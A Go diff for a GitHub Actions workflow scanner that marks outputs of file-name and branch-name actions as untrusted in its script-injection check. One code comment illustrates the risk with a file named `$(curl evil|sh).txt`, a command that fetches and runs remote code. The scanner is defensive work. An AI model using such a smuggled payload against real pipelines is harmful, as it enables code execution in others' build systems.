@@ -130,8 +130,12 @@ func checkScriptInjection(w *Workflow) []evidence.Finding {
 				}
 			}
 		}
+		outputs := taintedOutputs(j)
 		for _, s := range j.Steps {
 			tainted := w.taintedEnv(j, s)
+			for k, v := range outputs {
+				tainted[k] = v
+			}
 			for _, site := range w.codeSites(s) {
 				seen := map[string]bool{}
 				where := "the script of job " + jobID(j)
@@ -170,6 +174,13 @@ func checkScriptInjection(w *Workflow) []evidence.Finding {
 func (w *Workflow) untrustedOrigin(path string, tainted map[string]string, sev threatmap.Severity) (string, threatmap.Severity, bool) {
 	if isUntrusted(path) {
 		return path, sev, true
+	}
+	if rest, ok := strings.CutPrefix(path, "steps."); ok {
+		if id, _, ok := strings.Cut(rest, ".outputs."); ok {
+			if src, ok := tainted["steps."+id+".outputs.*"]; ok {
+				return fmt.Sprintf("%s (%s)", path, src), sev, true
+			}
+		}
 	}
 	if name, ok := strings.CutPrefix(path, "env."); ok {
 		if src, ok := tainted[name]; ok {
@@ -238,6 +249,35 @@ func (w *Workflow) taintedEnv(j *actionlint.Job, s *actionlint.Step) map[string]
 				sort.Strings(srcs)
 				out[name] = strings.Join(srcs, ", ")
 			}
+		}
+	}
+	return out
+}
+
+// outputActions are actions whose outputs carry text an outsider chooses:
+// file and branch names of the pull request. Pasted into a script, a file
+// named `$(curl evil|sh).txt` runs.
+var outputActions = map[string]string{
+	"tj-actions/changed-files":              "file names from the pull request",
+	"dorny/paths-filter":                    "file names from the pull request",
+	"tj-actions/branch-names":               "the pull request's branch name",
+	"jitterbit/get-changed-files":           "file names from the pull request",
+	"lots0logs/gh-action-get-changed-files": "file names from the pull request",
+}
+
+// taintedOutputs maps steps.<id>.outputs.* paths of a job's steps that run
+// such actions to what they carry. The keys are steps.<id>.outputs.<name>
+// for any name, matched by prefix in untrustedOrigin through the
+// steps.<id>.outputs. prefix stored with a trailing "*".
+func taintedOutputs(j *actionlint.Job) map[string]string {
+	out := map[string]string{}
+	for _, s := range j.Steps {
+		a, ok := s.Exec.(*actionlint.ExecAction)
+		if !ok || a.Uses == nil || s.ID == nil || s.ID.Value == "" {
+			continue
+		}
+		if what, ok := outputActions[parseUses(a.Uses.Value).repo]; ok {
+			out["steps."+strings.ToLower(s.ID.Value)+".outputs.*"] = "output of " + parseUses(a.Uses.Value).repo + ": " + what
 		}
 	}
 	return out
